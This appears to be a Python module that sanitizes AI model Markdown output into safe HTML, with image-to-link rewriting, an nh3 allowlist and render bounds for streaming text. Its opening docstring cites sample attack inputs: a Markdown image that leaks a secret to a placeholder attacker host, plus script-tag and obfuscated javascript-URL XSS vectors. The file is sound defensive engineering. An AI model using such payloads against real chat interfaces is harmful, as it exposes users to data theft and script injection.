"""The one Markdown -> safe HTML pipeline for model output (live view and history).

Model output is untrusted (and so is anything a model copied from a web page), so:

1. Python-Markdown runs with raw HTML disabled: the ``html_block`` preprocessor and the
   inline ``html`` pattern are removed, so any tag the model writes (``<script>``,
   ``<img onerror>``, ``<iframe>`` ...) is serialised as escaped text.
2. Images are never emitted as ``<img>``: a tree processor turns every image into a
   click-to-load link ``<a class="remote-image" href="URL">🖼 alt (image: host)</a>``,
   so no request leaves the browser unless the user clicks (no exfiltration via
   ``![x](https://evil.example/?q=secret)``).
3. Code blocks are highlighted by Pygments through ``codehilite`` with CSS classes only
   (``css_class="highlight"``); the colours come from a static stylesheet built by
   :func:`pygments_css`.
4. The HTML is then cleaned by nh3 with an explicit allowlist of tags, attributes and
   classes; links may only be ``http``, ``https`` or ``mailto`` (the scheme check runs on
   the entity-decoded, control-character-stripped URL, so ``jav&#x09;ascript:``,
   ``JAVASCRIPT:`` and friends are dropped); relative URLs are dropped; every link gets
   ``rel="noopener noreferrer nofollow"`` and opens in the same tab.

:class:`IncrementalRenderer` renders a streaming answer block by block: each finished
Markdown block is rendered exactly once, and the unfinished tail is handed back as raw
text that the client must show as ``textContent`` (never as HTML).  See its docstring for
the block rule.

Every render is bounded in time and memory, whatever the model wrote (Python-Markdown
recurses on nesting and rescans on some inputs, so a few KB can otherwise cost seconds and a
few MB gigabytes): see "Bounds" below.  Past a bound the text is shown as escaped text
(``<pre>``), never dropped.

This module is framework-free (no Django imports).
"""

from __future__ import annotations

import html
import logging
import re
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit
from xml.etree import ElementTree as etree

import markdown
import nh3
from markdown.extensions import Extension
from markdown.extensions.attr_list import get_attrs_and_remainder
from markdown.inlinepatterns import SimpleTagInlineProcessor
from markdown.treeprocessors import Treeprocessor
from pygments.formatters import HtmlFormatter
from pygments.token import STANDARD_TYPES

__all__ = [
    "ALLOWED_TAGS",
    "IncrementalRenderer",
    "RenderUpdate",
    "pygments_css",
    "render_markdown",
    "render_plain_escaped",
]

log = logging.getLogger(__name__)

CSS_CLASS = "highlight"
REMOTE_IMAGE_CLASS = "remote-image"
LINK_REL = "noopener noreferrer nofollow"
URL_SCHEMES = frozenset({"http", "https", "mailto"})

# ---------------------------------------------------------------------------
# Sanitizer allowlist
# ---------------------------------------------------------------------------

ALLOWED_TAGS = frozenset(
    {
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "span",
        "blockquote",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "a",
        # codehilite wraps highlighted code in <div class="highlight">; the class is
        # the only attribute a div may carry.
        "div",
    }
)

# Attributes with free-form values.  ``class`` is NOT listed here: it is governed by
# ALLOWED_CLASSES below (nh3 keeps only the listed class names).
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    # <ol start="3"> - Python-Markdown only ever emits digits here.
    "ol": {"start"},
}

# Attributes restricted to a fixed set of values.
ALLOWED_ATTRIBUTE_VALUES = {
    "th": {"align": {"left", "center", "right"}},
    "td": {"align": {"left", "center", "right"}},
}

# Every class Pygments' HtmlFormatter can put on a <span>, plus "hll" (highlighted line).
_PYGMENTS_CLASSES = frozenset(c for c in STANDARD_TYPES.values() if c) | {"hll"}

ALLOWED_CLASSES = {
    "span": set(_PYGMENTS_CLASSES) | {REMOTE_IMAGE_CLASS},
    "div": {CSS_CLASS},
    "a": {REMOTE_IMAGE_CLASS},
}


def _sanitize(fragment: str) -> str:
    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        tag_attribute_values={
            tag: {attr: set(values) for attr, values in attrs.items()}
            for tag, attrs in ALLOWED_ATTRIBUTE_VALUES.items()
        },
        allowed_classes={k: set(v) for k, v in ALLOWED_CLASSES.items()},
        url_schemes=set(URL_SCHEMES),
        url_relative="deny",
        link_rel=LINK_REL,
        strip_comments=True,
    )


# ---------------------------------------------------------------------------
# Markdown setup
# ---------------------------------------------------------------------------


class _RemoteImageTreeprocessor(Treeprocessor):
    """Replace every ``<img>`` with a click-to-load link (never loads automatically)."""

    def run(self, root: etree.Element) -> None:
        parents = {child: parent for parent in root.iter() for child in parent}
        for el in list(root.iter("img")):
            src = el.get("src", "")
            alt = el.get("alt", "")
            title = el.get("title")
            try:
                host = urlsplit(src.strip()).hostname or ""
            except ValueError:
                host = ""
            label = (
                f"\N{FRAME WITH PICTURE} {alt} (image: {host})" if host else (f"\N{FRAME WITH PICTURE} {alt} (image)")
            )
            inside_link = False
            p = parents.get(el)
            while p is not None:
                if p.tag == "a":
                    inside_link = True
                    break
                p = parents.get(p)
            el.attrib.clear()
            el.text = label
            el.set("class", REMOTE_IMAGE_CLASS)
            if inside_link:
                # No nested anchors: inside a link the image is only a label.
                el.tag = "span"
            else:
                el.tag = "a"
                el.set("href", src)
                if title:
                    el.set("title", title)


class _SafeMarkdownExtension(Extension):
    def extendMarkdown(self, md: markdown.Markdown) -> None:  # noqa: N802 (API name)
        # Raw HTML off: block-level HTML and inline tags are treated as plain text,
        # which the serializer escapes.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        # ~~strike~~ -> <del>
        md.inlinePatterns.register(SimpleTagInlineProcessor(r"(~~)(?=\S)(.+?)(?<=\S)~~", "del"), "del", 65)
        # After the inline processor (20) and prettify (10), before unescape (0).
        md.treeprocessors.register(_RemoteImageTreeprocessor(md), "remote_image", 5)


def _new_markdown() -> markdown.Markdown:
    return markdown.Markdown(
        extensions=[
            "fenced_code",
            "tables",
            "sane_lists",
            "codehilite",
            _SafeMarkdownExtension(),
        ],
        extension_configs={
            "codehilite": {
                "css_class": CSS_CLASS,
                "noclasses": False,  # classes only; colours come from pygments_css()
                "guess_lang": False,
                "use_pygments": True,
                "linenums": False,
            },
            # align="..." instead of style="text-align: ..." (no style attributes).
            "tables": {"use_align_attribute": True},
        },
        output_format="html",
    )


_local = threading.local()


def _markdown() -> markdown.Markdown:
    md = getattr(_local, "md", None)
    if md is None:
        md = _local.md = _new_markdown()
    return md


# ---------------------------------------------------------------------------
# Bounds
# ---------------------------------------------------------------------------
# One Markdown conversion ("unit") gets at most MAX_BLOCK_CHARS characters and MAX_BLOCK_LINES
# lines: Python-Markdown's block processors rescan the rest of a block per element, so a unit
# costs up to (lines x length).  A longer text is cut into units at block boundaries (the rule
# of IncrementalRenderer); a single block over the limits is shown escaped.  Before a unit is
# converted, _bound_nesting caps what Python-Markdown recurses on (indentation, ">" and list
# markers) or rescans per occurrence ("[" / "(" nesting, fence-like lines after an unclosed
# fence).  Past MAX_RENDER_CHARS, or once a call has spent RENDER_BUDGET_S, the rest is shown
# escaped, so a render returns within about the budget plus one unit.

MAX_RENDER_CHARS = 300_000  # a text's characters rendered as Markdown; the rest is escaped
MAX_BLOCK_CHARS = 32_000  # characters of one conversion; a longer single block is escaped
MAX_BLOCK_LINES = 1_000  # lines of one conversion; a longer single block is escaped
MAX_NESTING = 12  # container markers (">", "-", "1." ...) at the start of a line
MAX_INDENT = 4 * MAX_NESTING  # columns of indentation (4 per list level)
MAX_BRACKET_DEPTH = 16  # "[" or "(" open at once in a paragraph; deeper ones are escaped
MAX_UNMATCHED = 8  # unmatched "[" / "(" in a paragraph past which they are escaped
MAX_UNCLOSED_FENCES = 50  # fence-like lines after an unclosed fence before they are escaped
RENDER_BUDGET_S = 1.0  # time of one render_markdown call after which the rest is escaped

# A line that may nest deeper than the caps (conservative: the exact check is per line).
_MARKER = r"(?:>|[*+-](?=[ \t])|\d{1,9}[.)](?=[ \t]))"
_DEEP_LINE_RE = re.compile(rf"(?m)^(?:[ \t]{{{MAX_NESTING + 1}}}|(?:[ \t]*{_MARKER}){{{MAX_NESTING + 1}}})")
_NESTED_RE = re.compile(rf"(?:[ \t]*{_MARKER}){{{MAX_NESTING}}}")
_ONE_MARKER_RE = re.compile(rf"[ \t]*({_MARKER})")
_BRACKET_RE = re.compile(r"\\.|[\[\]()]")
_CODE_SPAN_RE = re.compile(r"(?<!\\)(`+)(.+?)(?<!`)\1(?!`)", re.DOTALL)  # as Python-Markdown's backtick


def render_markdown(text: str) -> str:
    """Render untrusted Markdown to sanitized HTML, in bounded time and memory (see Bounds)."""
    if not text or not text.strip():
        return ""
    if len(text) <= MAX_BLOCK_CHARS and text.count("\n") < MAX_BLOCK_LINES:
        return _render_unit(text)
    return _render_long(text)


def render_plain_escaped(text: str) -> str:
    """Escape text for inclusion in HTML (e.g. the unfinished tail in history views)."""
    return html.escape(text, quote=True)


def _render_escaped(text: str) -> str:
    return f"<pre>{render_plain_escaped(text)}</pre>"


_FENCE_RE = re.compile(r"\A[ ]{0,3}(`{3,}|~{3,})[^\n]*\n(.*?)\n?[ ]{0,3}\1[`~]*[ \t]*\n*\Z", re.DOTALL)


def _render_big_block(block: str) -> str:
    """A single block over one conversion's limits: a fenced code block keeps its code box
    (without highlighting, which is what costs), anything else is escaped text."""
    fence = _FENCE_RE.match(block)
    if fence is None:
        return _render_escaped(block)
    return f'<div class="{CSS_CLASS}"><pre><code>{render_plain_escaped(fence.group(2))}\n</code></pre></div>'


def _render_unit(text: str) -> str:
    """One conversion of at most MAX_BLOCK_CHARS / MAX_BLOCK_LINES."""
    md = _markdown()
    try:
        raw = md.reset().convert(_bound_nesting(text))
    except Exception as exc:  # pathological input the bounds did not foresee
        log.warning(
            "markdown rendering failed (%s); falling back to escaped text",
            type(exc).__name__,
        )
        _local.md = None  # the instance may be left in a broken state
        return _render_escaped(text)
    return _sanitize(raw)


def _render_long(text: str) -> str:
    """A text over one unit's limits: its blocks grouped into units, within the budget."""
    deadline = time.monotonic() + RENDER_BUDGET_S
    splitter = _BlockSplitter()
    splitter.feed(text[:MAX_RENDER_CHARS])
    if len(text) <= MAX_RENDER_CHARS:
        splitter.finish()
    parts: list[str] = []
    unit: list[str] = []
    unit_chars = unit_lines = 0

    def flush() -> None:
        nonlocal unit, unit_chars, unit_lines
        if unit:
            source = "".join(unit)
            # Out of time: the rest is shown as escaped text, which costs next to nothing.
            rendered = _render_unit(source) if time.monotonic() < deadline else _render_escaped(source)
            parts.append(rendered.strip())
        unit, unit_chars, unit_lines = [], 0, 0

    for block in splitter.sources:
        lines = block.count("\n")
        if unit and (unit_chars + len(block) > MAX_BLOCK_CHARS or unit_lines + lines >= MAX_BLOCK_LINES):
            flush()
        if len(block) > MAX_BLOCK_CHARS or lines >= MAX_BLOCK_LINES:
            parts.append(_render_big_block(block))
            continue
        unit.append(block)
        unit_chars += len(block)
        unit_lines += lines
    flush()
    rest = text[splitter.consumed :]
    if rest.strip():
        parts.append(_render_escaped(rest))
    return "\n".join(p for p in parts if p)


def _bound_nesting(text: str) -> str:
    """*text* with the nesting Python-Markdown would recurse or rescan on capped; ordinary
    text comes back unchanged.

    Outside fenced code, per line: indentation past MAX_INDENT columns is cut to it, and a
    container marker past MAX_NESTING is backslash-escaped (it becomes text).  Per paragraph,
    outside code spans: a "[" or "(" opened past MAX_BRACKET_DEPTH is escaped, and so are the
    unmatched ones when there are more than MAX_UNMATCHED (each would be scanned to the end of
    the paragraph; escaped, it shows the same "[").  After an unclosed fence, which
    Python-Markdown reads as text, fence-like lines are escaped when there are more than
    MAX_UNCLOSED_FENCES of them (each would be tried as an opening fence against the rest).
    """
    brackets = text.count("[") + text.count("(") > MAX_UNMATCHED
    fences = text.count("```") + text.count("~~~") > MAX_UNCLOSED_FENCES
    if not (brackets or fences or _DEEP_LINE_RE.search(text)):
        return text
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    start = 0
    while start < len(lines):
        unclosed, candidates = _bound_lines(lines, start, brackets)
        if unclosed is None:
            break
        if len(candidates) > MAX_UNCLOSED_FENCES:
            for i in candidates:
                lines[i] = "\\" + lines[i]
        start = unclosed + 1  # the unclosed fence is text: bound what follows it as text
    return "\n".join(lines)


def _fence_of(line: str) -> str | None:
    """The fence string if *line* opens a fenced block the way fenced_code sees it."""
    sub = line.replace(_STX, "").replace(_ETX, "").expandtabs(4)
    m = _FENCE_OPEN_RE.match(sub)
    if m and not (m.group("attrs") and get_attrs_and_remainder(m.group("attrs"))[1]):
        return m.group("fence")
    return None


def _bound_lines(lines: list[str], start: int, brackets: bool) -> tuple[int | None, list[int]]:
    """Bound ``lines[start:]`` in place, outside fences.  Returns the index of a fence left
    unclosed at the end (or None) and the fence-like lines from it on."""
    fence: str | None = None
    opened_at = 0
    candidates: list[int] = []
    paragraph: list[int] = []  # lines of the current paragraph, for the bracket caps
    for i in range(start, len(lines)):
        line = lines[i]
        if fence is not None:
            if line.replace(_STX, "").replace(_ETX, "").expandtabs(4).rstrip(" ") == fence:
                fence = None
            elif line[:1] in ("`", "~") and _fence_of(line):
                candidates.append(i)
            continue
        if line[:1] in ("`", "~"):
            fence = _fence_of(line)
            if fence is not None:
                if brackets:
                    _cap_brackets(lines, paragraph)
                opened_at, candidates, paragraph = i, [i], []
                continue
        if _is_blank(line):
            if brackets:
                _cap_brackets(lines, paragraph)
            paragraph = []
            continue
        lines[i] = _cap_line(line)
        paragraph.append(i)
    if brackets:
        _cap_brackets(lines, paragraph)
    return (opened_at if fence is not None else None), candidates


def _cap_line(line: str) -> str:
    stripped = line.lstrip(" \t")
    indent = line[: len(line) - len(stripped)]
    if len(indent.expandtabs(4)) > MAX_INDENT:
        line = " " * MAX_INDENT + stripped
    m = _NESTED_RE.match(line)
    if m:
        deeper = _ONE_MARKER_RE.match(line, m.end())
        if deeper:
            # Escape the marker's last character ("\>", "\-", "1\."): the rest of the line is text.
            at = deeper.end(1) - 1
            line = line[:at] + "\\" + line[at:]
    return line


def _cap_brackets(lines: list[str], paragraph: list[int]) -> None:
    """Escape, in place, the "[" and "(" of one paragraph that would cost a rescan each."""
    text = "\n".join(lines[i] for i in paragraph)
    if text.count("[") + text.count("(") <= MAX_UNMATCHED:
        return
    spans = [(m.start(), m.end()) for m in _CODE_SPAN_RE.finditer(text)] if "`" in text else []
    open_at: dict[str, list[int]] = {"[": [], "(": []}
    deep: list[int] = []
    span = 0
    for m in _BRACKET_RE.finditer(text):
        pos, ch = m.start(), m.group()
        while span < len(spans) and spans[span][1] <= pos:
            span += 1
        if span < len(spans) and spans[span][0] <= pos:
            continue  # inside a code span: literal
        if ch in "[(":
            if len(open_at[ch]) >= MAX_BRACKET_DEPTH:
                deep.append(pos)
            else:
                open_at[ch].append(pos)
        elif ch in "])":
            stack = open_at["[" if ch == "]" else "("]
            if stack:
                stack.pop()
    unmatched = open_at["["] + open_at["("]
    escape = sorted(deep + unmatched) if len(unmatched) > MAX_UNMATCHED else sorted(deep)
    if not escape:
        return
    out, last = [], 0
    for pos in escape:
        out += [text[last:pos], "\\"]
        last = pos
    out.append(text[last:])
    for i, line in zip(paragraph, "".join(out).split("\n")):
        lines[i] = line


# ---------------------------------------------------------------------------
# Pygments stylesheet
# ---------------------------------------------------------------------------


def pygments_css(light: str = "default", dark: str = "github-dark") -> str:
    """Stylesheet for ``.highlight`` code blocks: light by default, dark under
    ``@media (prefers-color-scheme: dark)``.

    Inside the dark block every token class the light style styles is first reset, so
    no light property (a colour, bold, a border) leaks into dark mode where the dark
    style does not set it.
    """
    sel = "." + CSS_CLASS
    lf = HtmlFormatter(style=light, cssclass=CSS_CLASS)
    df = HtmlFormatter(style=dark, cssclass=CSS_CLASS)

    def defs(fmt: HtmlFormatter) -> str:
        return "\n".join(fmt.get_background_style_defs(sel) + fmt.get_token_style_defs(sel))

    light_classes = sorted({c for c in lf.class2style if c})
    resets = ""
    if light_classes:
        resets = ",\n".join(f"{sel} .{c}" for c in light_classes) + (
            " { color: inherit; background-color: transparent; font-weight: inherit;"
            " font-style: inherit; text-decoration: none; border: none; }"
        )
    dark_body = "\n".join(filter(None, [resets, defs(df)]))
    dark_body = "\n".join("  " + line for line in dark_body.splitlines())
    return (
        f"/* Generated by chat.render.pygments_css(light={light!r}, dark={dark!r}). */\n"
        f"{sel} pre {{ line-height: 125%; overflow-x: auto; }}\n"
        f"{defs(lf)}\n"
        "@media (prefers-color-scheme: dark) {\n"
        f"{dark_body}\n"
        "}\n"
    )


# ---------------------------------------------------------------------------
# Incremental rendering
# ---------------------------------------------------------------------------


@dataclass
class RenderUpdate:
    """What one :meth:`IncrementalRenderer.feed` (or ``finish``) produced.

    ``blocks``: sanitized HTML of the blocks finished by this call, in order (each block
    is rendered and reported exactly once).  ``tail``: the raw, unfinished source text
    after the last finished block; show it as escaped text only (``textContent``, or
    :func:`render_plain_escaped` server-side).  ``consumed``: number of source characters
    covered by all finished blocks so far (``tail == source[consumed:]``).
    """

    blocks: list[str] = field(default_factory=list)
    tail: str = ""
    consumed: int = 0
    done: bool = False


_STX, _ETX = "\x02", "\x03"  # stripped by Python-Markdown before parsing

# Exactly Python-Markdown's fenced_code opening line (FENCED_BLOCK_RE), for one line.
_FENCE_OPEN_RE = re.compile(
    r"""^(?P<fence>~{3,}|`{3,})[ ]*
        ((\{(?P<attrs>[^\n]*)\})|
        (\.?(?P<lang>[\w#.+-]*)[ ]*)?
        (hl_lines=(?P<quot>"|')(?P<hl_lines>.*?)(?P=quot)[ ]*)?)$""",
    re.VERBOSE,
)
_LIST_ITEM_RE = re.compile(r"^[ \t]*(?:[*+-]|\d+[.)])(?:[ \t]|$)")
_QUOTE_RE = re.compile(r"^[ \t]*>")
# A line prefix that may still turn into a list marker once more text arrives.
_MAYBE_LIST_PREFIX_RE = re.compile(r"^(?:[*+-]|\d+[.)]?)$")

_SPLIT, _JOIN, _UNKNOWN = "split", "join", "unknown"


def _is_blank(line: str) -> bool:
    return not line.strip(" \t")


class IncrementalRenderer:
    """Render a streamed Markdown answer block by block.

    Block rule (a block is the source text between two boundaries):

    * Only complete lines are scanned, each exactly once; ``` / ~~~ fences are tracked
      the way Python-Markdown's fenced_code sees them (fence at column 0, closed by the
      identical fence string).  Nothing inside an open fence is ever a boundary, and an
      unclosed fence keeps everything after it in the tail until :meth:`finish`.
    * A boundary is placed just before the first non-blank line that follows one or more
      blank lines outside a fence, **unless** that line may continue the previous block:
        - it is indented (space or tab) - list-item continuation or indented code;
        - it looks like a list item (``-``/``*``/``+``/``1.``/``1)``) and the previous
          paragraph (text since the last blank line) contained a list item line or
          continued one (a loose list stays one ``<ul>``/``<ol>``);
        - it starts with ``>`` and the previous paragraph contained a ``>`` line
          (consecutive quotes stay one ``<blockquote>``).
      The decision is taken as soon as the first characters of that line settle it, so a
      finished paragraph is rendered when the next block starts, not when it ends.
    * :meth:`finish` renders whatever is left as the last block.

    Joining is always safe (a longer block renders exactly like that slice of the whole
    text); the rule only splits where Python-Markdown starts an independent top-level
    element, so ``"\\n".join(all blocks)`` equals ``render_markdown(whole text)`` for
    ordinary input.  Known difference: reference-style links whose definition lives in a
    *different* block stay unresolved (shown as text) in the live view.

    Cost: each ``feed`` scans only the new text (plus the current partial line once it
    completes) and renders only newly finished blocks, so the Markdown converter runs
    once per block, not once per delta.  ``tail`` is a string copy of the unfinished part.
    """

    def __init__(self) -> None:
        self._pending = ""  # source text after the last boundary (== tail)
        self._line_start = 0  # offset in _pending of the first not yet scanned line
        self._search_from = 0  # where to resume looking for "\n" in the partial line
        self.consumed = 0  # source chars in finished blocks
        self.blocks: list[str] = []  # every finished block so far
        self._done = False
        # scanner state
        self._fence: str | None = None  # open fence string, or None
        self._after_blank = False  # saw blank line(s) outside a fence since last text
        self._has_text = False  # current block has a non-blank line
        self._seg_list = False  # current paragraph has/continues a list item
        self._seg_quote = False  # current paragraph has/continues a blockquote

    # -- public API ---------------------------------------------------------

    @property
    def tail(self) -> str:
        return self._pending

    @property
    def done(self) -> bool:
        return self._done

    def snapshot(self) -> RenderUpdate:
        """All finished blocks so far plus the tail (for a reconnecting client)."""
        return RenderUpdate(list(self.blocks), self._pending, self.consumed, self._done)

    def feed(self, delta: str) -> RenderUpdate:
        if self._done:
            raise RuntimeError("IncrementalRenderer.feed() after finish()")
        new_blocks: list[str] = []
        if delta:
            self._pending += delta
            self._scan(new_blocks)
        return RenderUpdate(new_blocks, self._pending, self.consumed)

    def finish(self) -> RenderUpdate:
        if self._done:
            return RenderUpdate([], "", self.consumed, True)
        new_blocks: list[str] = []
        self._emit(len(self._pending), new_blocks)
        self._done = True
        return RenderUpdate(new_blocks, "", self.consumed, True)

    # -- internals ----------------------------------------------------------

    def _emit(self, end: int, out: list[str]) -> None:
        """Render ``_pending[:end]`` as one finished block."""
        source, self._pending = self._pending[:end], self._pending[end:]
        self.consumed += end
        self._line_start -= end
        self._search_from = max(0, self._search_from - end)
        rendered = self._render(source).strip()
        if rendered:
            out.append(rendered)
            self.blocks.append(rendered)

    def _render(self, source: str) -> str:
        if self.consumed > MAX_RENDER_CHARS:  # past the overall limit, as render_markdown does
            return _render_escaped(source)
        return render_markdown(source)

    def _scan(self, out: list[str]) -> None:
        pending = self._pending
        while True:
            nl = pending.find("\n", self._search_from)
            if nl < 0:
                self._search_from = len(pending)
                break
            start = self._line_start
            self._line_start = self._search_from = nl + 1
            line = pending[start:nl]
            split_at = self._process_line(line, start)
            if split_at is not None:
                self._emit(split_at, out)
                pending = self._pending
        # Early decision on a partial line that follows blank lines.
        if self._after_blank and self._fence is None and self._has_text:
            # A short prefix settles it; never re-copy a long partial line.
            partial = pending[self._line_start : self._line_start + 64]
            decision = self._decide(_normalize_prefix(partial), partial_line=True)
            if decision == _SPLIT:
                self._after_blank = False
                self._has_text = False
                self._emit(self._line_start, out)
                self._start_segment(indented=False)
            elif decision == _JOIN:
                self._after_blank = False
                self._start_segment(indented=partial[:1] in (" ", "\t"))

    def _start_segment(self, indented: bool) -> None:
        if not indented:
            self._seg_list = self._seg_quote = False

    def _decide(self, line: str | None, partial_line: bool) -> str:
        """Should a boundary go before ``line`` (first non-blank line after blanks)?"""
        if line is None:
            return _UNKNOWN
        if line[:1] in (" ", "\t"):
            if partial_line and _is_blank(line):
                return _UNKNOWN
            return _JOIN
        if not line:
            return _UNKNOWN
        if self._seg_list:
            if _LIST_ITEM_RE.match(line):
                return _JOIN
            if partial_line and _MAYBE_LIST_PREFIX_RE.match(line):
                return _UNKNOWN
        if self._seg_quote and line.startswith(">"):
            return _JOIN
        return _SPLIT

    def _process_line(self, raw: str, start: int) -> int | None:
        """Feed one complete source line (without "\\n"); maybe return a split offset."""
        content = raw.replace(_STX, "").replace(_ETX, "")
        if content.endswith("\r"):
            content = content[:-1]
        split_at: int | None = None
        # A lone "\r" is a line break for Python-Markdown too.
        for i, sub in enumerate(content.split("\r")):
            sub = sub.expandtabs(4)
            if self._fence is not None:
                if sub.rstrip(" ") == self._fence:
                    self._fence = None
                self._note_text(sub)
                continue
            if _is_blank(sub):
                if self._has_text:
                    self._after_blank = True
                continue
            if self._after_blank:
                self._after_blank = False
                # Only split at the start of a raw line.
                decision = self._decide(sub, partial_line=False) if i == 0 else _JOIN
                if decision == _SPLIT:
                    split_at = start
                    self._has_text = False
                self._start_segment(indented=sub[:1] == " ")
            m = _FENCE_OPEN_RE.match(sub)
            if m and not (m.group("attrs") and get_attrs_and_remainder(m.group("attrs"))[1]):
                self._fence = m.group("fence")
            self._note_text(sub)
        return split_at

    def _note_text(self, sub: str) -> None:
        if _is_blank(sub):
            return
        self._has_text = True
        if _LIST_ITEM_RE.match(sub):
            self._seg_list = True
        if _QUOTE_RE.match(sub):
            self._seg_quote = True


def _normalize_prefix(partial: str) -> str | None:
    """Normalise the start of an incomplete line like Python-Markdown would, or None if
    a carriage return makes its first line ambiguous so far."""
    p = partial.replace(_STX, "").replace(_ETX, "")
    stripped = p.lstrip(" \t")
    if "\r" in p[: len(p) - len(stripped) + 1]:
        return None
    return p.expandtabs(4)


class _BlockSplitter(IncrementalRenderer):
    """IncrementalRenderer's block rule without rendering: ``sources`` are the blocks' texts."""

    def __init__(self) -> None:
        super().__init__()
        self.sources: list[str] = []

    def _render(self, source: str) -> str:
        self.sources.append(source)
        return ""
